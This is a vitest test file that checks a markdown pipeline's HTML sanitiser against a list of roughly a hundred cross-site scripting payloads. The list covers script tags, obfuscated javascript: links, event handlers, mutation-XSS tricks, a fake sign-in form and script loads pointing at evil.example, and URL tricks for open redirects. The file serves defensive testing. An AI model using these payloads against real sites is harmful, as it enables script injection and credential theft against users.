import { expect, test } from "vitest";
import { parse, toHtml, toHtmlTree } from "../../../app/markdown/pipeline";
import { comment, idsOf, post, rendered } from "../page";
import { faults } from "./safety";

const ATTACKS: [string, string][] = [
  ["script element", "<script>alert(1)</script>"],
  ["script split over lines", "<script\n>alert(1)</script\n>"],
  ["script in the middle of a word", "a<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["script with a slash", "<script/src=//evil.example/x.js></script>"],
  ["javascript link", "[x](javascript:alert(1))"],
  ["javascript link, mixed case", "[x](JaVaScRiPt:alert(1))"],
  ["javascript link, entity", "[x](javascript&colon;alert(1))"],
  ["javascript link, numeric entities", "[x](&#106;&#x61;vascript:alert(1))"],
  ["javascript link, tab inside", '<a href="java&#9;script:alert(1)">x</a>'],
  ["javascript link, line end inside", '<a href="java\nscript:alert(1)">x</a>'],
  ["javascript link, control before", '<a href="&#1;&#14; javascript:alert(1)">x</a>'],
  ["javascript link, NUL inside", '<a href="java\0script:alert(1)">x</a>'],
  ["javascript link, no-break space before", '<a href="&nbsp;javascript:alert(1)">x</a>'],
  ["javascript autolink", "<javascript:alert(1)>"],
  ["javascript reference", "[x][y]\n\n[y]: javascript:alert(1)"],
  ["javascript image", "![x](javascript:alert(1))"],
  ["vbscript link", "[x](vbscript:msgbox(1))"],
  ["data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["data image", "![x](data:image/svg+xml,<svg onload=alert(1)>)"],
  ["file link", "[x](file:///etc/passwd)"],
  ["blob link", "[x](blob:https://longtable.example/1)"],
  ["view-source link", "[x](view-source:javascript:alert(1))"],
  ["handler on an image", "<img src=x onerror=alert(1)>"],
  ["handler with slashes for spaces", "<img/src=/x/onerror=alert(1)>"],
  ["handler on details", "<details open ontoggle=alert(1)>x</details>"],
  ["handler through a link's title", '[x](/a "\\" onmouseover=alert(1) x=\\"")'],
  ["handler through an image's alt", '![" onerror=alert(1) x="](/a.png)'],
  ["handler through an image's caption", '![x](/a.png "<img src=x onerror=alert(1)>")'],
  ["handler through a listing's language", '```"onmouseover=alert(1)//\nx\n```'],
  ["element through a listing's language", "```<img/src/onerror=alert(1)>\nx\n```"],
  ["class through a listing's language", "```x hljs pilcrow\ny\n```"],
  ["style attribute", '<p style="position:fixed;inset:0">x</p>'],
  ["style element", "<style>body{display:none}</style>"],
  ["class of the page's own", '<a class="anchor pilcrow" href="/x">x</a>'],
  ["iframe", '<iframe src="javascript:alert(1)"></iframe>'],
  ["iframe with a document", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["object and embed", '<object data="/x.swf"><embed src="/x.swf"></object>'],
  ["form", '<form action="https://evil.example"><input name=password><button>Sign in</button></form>'],
  ["input outside a task", '<input type=text value=x> <input type="image" src=x>'],
  ["button with a form action", '<button formaction="javascript:alert(1)">x</button>'],
  ["select and textarea", "<select><option>x</select><textarea><script>alert(1)</script></textarea>"],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["base", '<base href="https://evil.example/">'],
  ["link to a stylesheet", '<link rel=stylesheet href="https://evil.example/x.css">'],
  ["srcset", '<img srcset="javascript:alert(1) 1x" src="/a.png"><picture><source srcset="x"></picture>'],
  ["svg", "<svg><script>alert(1)</script></svg><svg onload=alert(1)>"],
  ["svg link", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ["svg use and animate", '<svg><use href="data:x"/><animate onbegin=alert(1) attributeName=x></svg>'],
  [
    "math",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
  ],
  ["math link", '<math href="javascript:alert(1)">x</math>'],
  ["mutation through noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ["mutation through style in svg", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ["mutation through textarea", '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'],
  ["mutation through title", '<title><a title="</title><img src=x onerror=alert(1)>">x</a></title>'],
  ["mutation through template", "<template><p></template><script>alert(1)</script></template>"],
  ["mutation through xmp", '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>'],
  [
    "mutation through nested forms",
    "<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  ],
  ["mutation through a comment", "<!--<img src='--><img src=x onerror=alert(1)>'>-->"],
  ["comment that ends early", "<!--><img src=x onerror=alert(1)>-->"],
  ["comment with a bang", "<!--x--!><img src=x onerror=alert(1)>"],
  ["conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"],
  ["unclosed comment", "<!-- <b>\n\nstill *here*"],
  ["unclosed tag", "<img src=x onerror=alert(1)\n\n//"],
  ["unclosed quote", '<a href="x\n\n<script>alert(1)</script>'],
  ["plaintext", "<plaintext>x\n\n<b>y"],
  ["CDATA", "<![CDATA[<script>alert(1)</script>]]>"],
  ["processing instruction", "<?php echo '<script>alert(1)</script>' ?>"],
  ["body and html", "<html onmouseover=alert(1)><body onload=alert(1) background=javascript:alert(1)>x"],
  ["frameset", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>"],
  ["marquee and blink", "<marquee onstart=alert(1)>x</marquee>"],
  ["audio and video", "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>"],
  ["custom element", "<x-y onclick=alert(1) is=z>x</x-y>"],
  ["id that hides a function", '<img id=getElementById name=cookie src="/x.png">'],
  ["name that hides a property", '<a name=body id=body href="/x">x</a>'],
  ["id of the page's own", "<p id=respond>x</p><p id=comment-1>y</p><h2 id=section-a>a</h2>\n\n## a"],
  ["id with spaces", '<p id="a b onclick=x">x</p>'],
  ["ping and target", '<a href="/x" ping="https://evil.example" target=_blank download>x</a>'],
  ["rel that opens the window", '<a href="https://evil.example" rel="opener">x</a>'],
  ["aria and role", '<p role=button aria-label="Sign in" aria-hidden=true tabindex=1 contenteditable>x</p>'],
  ["popover and dialog", "<dialog open popover=auto><button popovertarget=x>x</button></dialog>"],
  [
    "forged footnotes",
    '<section data-footnotes class="footnotes" role="doc-endnotes"><ol><li id="fn-1">x</li></ol></section>[^1]\n\n[^1]: y',
  ],
  [
    "forged references",
    '<a data-footnote-ref href="#fn-1" id="fnref-1" aria-describedby="x">1</a> [^1]\n\n[^1]: y',
  ],
  ["footnote label", '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: y'],
  ["footnote that closes its list", "[^1]\n\n[^1]: </li></ol></section><script>alert(1)</script>"],
  ["two slashes with a backslash", '<a href="/\\evil.example">x</a> <img src="/\\evil.example/x">'],
  ["two slashes with a tab", '<a href="/&#9;/evil.example">x</a>'],
  ["two slashes behind the site's name", "[x](https://longtable.example//evil.example)"],
  ["two slashes behind a dot", "[x](/.//evil.example)"],
  ["the site's name before an at", "[x](https://longtable.example@evil.example/)"],
  ["cite", '<blockquote cite="javascript:alert(1)"><q cite="data:x">y</q></blockquote>'],
  [
    "table that throws out its content",
    "<table><script>alert(1)</script><tr><td><img src=x onerror=alert(1)>",
  ],
  ["elements that cannot nest", "<a href=/x><table><a href=/y><p><h1><p></a></table><b><p><b></a>"],
  ["prototype", '<a __proto__="x" constructor=y hasOwnProperty=z href="/x">x</a>'],
  ["heading that is a script", "# <script>alert(1)</script>\n\n## <img src=x onerror=alert(1)>"],
  ["heading with a quote for its label", '## "><img src=x onerror=alert(1)>'],
];

test("at least forty attacks are tried", () => {
  expect(ATTACKS.length).toBeGreaterThanOrEqual(40);
});

for (const [name, source] of ATTACKS) {
  test(`neutralises ${name} in a post and in a comment`, () => {
    expect(faults(rendered(source, post).html)).toEqual([]);
    expect(faults(rendered(source, comment).html)).toEqual([]);
  });

  test(`neutralises ${name} among other text`, () => {
    const source2 = `*Before* ${source} after\n\n> - ${source}\n\n| ${source.replaceAll("\n", " ")} |\n|--|\n\nThe end.`;
    expect(faults(rendered(source2, post).html)).toEqual([]);
  });
}

test("the checker finds all faults of a bad page", () => {
  const bad =
    '<p onclick=x>a<script></script><a href="javascript:x" class="btn">b</a><i id=a></i><b id=a></b><input>';
  expect(faults(bad)).toHaveLength(11);
});

test("removes scripts and styles with their content, and keeps the text of unknown elements", () => {
  const { html } = rendered("<script>alert(1)</script><style>p{}</style>\n\n<center>kept</center>");
  expect(html).not.toContain("alert");
  expect(html).toContain("kept");
});

test("the sanitiser alone removes all schemes but http, https and mailto", () => {
  const source =
    "[a](javascript:x) [b](data:x) ![c](data:x) <q cite='javascript:x'>d</q> [e](https://e.example)";
  const html = toHtml(toHtmlTree(parse(source, { smart: false }), ""));
  expect(html).toBe('<p><a>a</a> <a>b</a> <img alt="c"> <q>d</q> <a href="https://e.example">e</a></p>');
});

test("replaces a typed NUL, so that footnote ids cannot be forged", () => {
  const note = (nul: string) =>
    `<section><h2>x</h2><ol><li id="${nul}fn-1">y</li></ol></section><a href="#${nul}fn-1">1</a>`;
  for (const nul of ["\0", "&#0;", "&#x0;", "%00", "\\0"]) {
    const { html } = rendered(note(nul));
    expect(html).not.toMatch(/<section|doc-noteref/);
    expect(faults(html)).toEqual([]);
  }
});

test("prefixes an author's id and the links to it", () => {
  const { html } = rendered('<span id="a">x</span> [to it](#a)', comment);
  expect(idsOf(html)).toEqual(["c-1f3a-user-a"]);
  expect(html).toContain('href="#c-1f3a-user-a"');
});

test("removes control characters from text and attributes", () => {
  const { html } = rendered('a\u0001b\u0008c <abbr title="&#1;x&#27;">d</abbr> \ud800 e');
  expect(html).not.toMatch(/[^\P{Cc}\n]|\p{Surrogate}/u);
  expect(html).toContain('abc <abbr title="x">');
});

test("keeps direction marks as text", () => {
  expect(rendered("a \u202Eevil\u202C b").html).toContain("\u202Eevil\u202C");
});
